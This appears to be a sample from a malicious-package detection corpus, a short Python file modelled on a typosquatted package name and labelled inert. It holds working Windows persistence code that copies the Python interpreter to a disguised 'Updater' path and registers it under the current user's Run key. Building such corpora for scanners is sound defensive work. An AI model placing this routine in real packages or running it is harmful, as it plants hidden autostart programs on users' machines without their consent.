# pkgguard corpus 145 (persistence), modelled on [termncolor]; inert, never run.
import os
import sys
import shutil
import winreg

target = os.path.join(os.getenv("LOCALAPPDATA", ""), "Updater", "updater.exe")
os.makedirs(os.path.dirname(target), exist_ok=True)
shutil.copy(sys.executable, target)
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, target)
winreg.CloseKey(key)
